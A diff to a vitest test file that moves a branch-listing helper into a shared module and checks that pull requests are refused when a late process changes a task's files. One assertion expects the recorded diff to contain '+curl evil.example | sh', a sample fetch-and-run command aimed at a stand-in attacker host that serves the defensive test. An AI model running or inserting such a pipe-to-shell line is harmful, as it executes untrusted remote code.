@@ -5,7 +5,7 @@ import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { sendMessage } from '#domain/api/chat.ts'
 import { createPullRequest, executeTask, getTaskDiff } from '#domain/api/tasks.ts'
 import { gitDone } from '../contracts/codeHost.fixture.ts'
-import { bareRepository, pushElsewhere } from '../server/pushing.ts'
+import { bareRepository, branchesAtHost, pushElsewhere } from '../server/pushing.ts'
 import { hasEnded, openScene, type Scene } from '../server/scene.ts'
 
 const bash = (command: string) => ({ name: 'Bash', input: { command, description: 'Work' } })
@@ -47,8 +47,6 @@ async function doneTask(description: string) {
 }
 const diffOf = async (params: { taskId: string }) => (await scene.ada.ask(getTaskDiff, { params })).data
 const inHost = async (...args: string[]) => gitDone(await bareRepository(scene.product.dataDir), args)
-const branchesAtHost = async () =>
-  (await inHost('for-each-ref', '--format=%(refname:short)', 'refs/heads')).split('\n')
 
 describe('a pull request', () => {
   test('finding 2: of files that a late process changed is refused, and the diff shows them', async () => {
@@ -59,14 +57,14 @@ describe('a pull request', () => {
 
     const moved = { status: 409, code: 'changes_moved' }
     expect(await scene.ada.refused(createPullRequest, { params })).toMatchObject(moved)
-    expect(await branchesAtHost()).not.toContain(branch)
+    expect(await branchesAtHost(scene.product.dataDir)).not.toContain(branch)
     const recorded = await diffOf(params)
     expect(recorded.changedFiles.map(({ diff }) => diff).join('')).toContain('+curl evil.example | sh')
     expect(recorded.tree).not.toBe(seen.tree)
     // Who still has the old diff before them is told as well.
     const old = { params, body: { tree: seen.tree ?? '' } }
     expect(await scene.ada.refused(createPullRequest, old)).toMatchObject(moved)
-    expect(await branchesAtHost()).not.toContain(branch)
+    expect(await branchesAtHost(scene.product.dataDir)).not.toContain(branch)
 
     await scene.ada.ask(createPullRequest, { params, body: { tree: recorded.tree ?? '' } })
     expect(await inHost('rev-parse', `${branch}^{tree}`)).toBe(recorded.tree)
@@ -117,7 +115,7 @@ describe('a pull request', () => {
         code: 'task_running',
       })
     await access(scratch)
-    expect(await branchesAtHost()).not.toContain(branch)
+    expect(await branchesAtHost(scene.product.dataDir)).not.toContain(branch)
     await writeFile(join(tree, 'go'), '')
     await scene.ada.taskOnce(params.taskId, (task) => hasEnded(task) && task.execution?.turn === 2)
     await scene.ada.ask(createPullRequest, { params })
@@ -133,7 +131,9 @@ describe('a pull request', () => {
     ])
     await scene.ada.taskOnce(params.taskId, (task) => hasEnded(task) && task.execution?.turn === 2)
     const published = async () =>
-      (await branchesAtHost()).includes(branch) ? inHost('rev-parse', `${branch}^{tree}`) : 'nothing'
+      (await branchesAtHost(scene.product.dataDir)).includes(branch)
+        ? inHost('rev-parse', `${branch}^{tree}`)
+        : 'nothing'
     const refusal = asked.status === 'rejected' ? String(asked.reason) : ''
     const expected = { published: refusal === '' ? tree : 'nothing', isRefused: refusal !== '' }
     expect({ published: await published(), isRefused: refusal.includes('task_running') }).toEqual(expected)
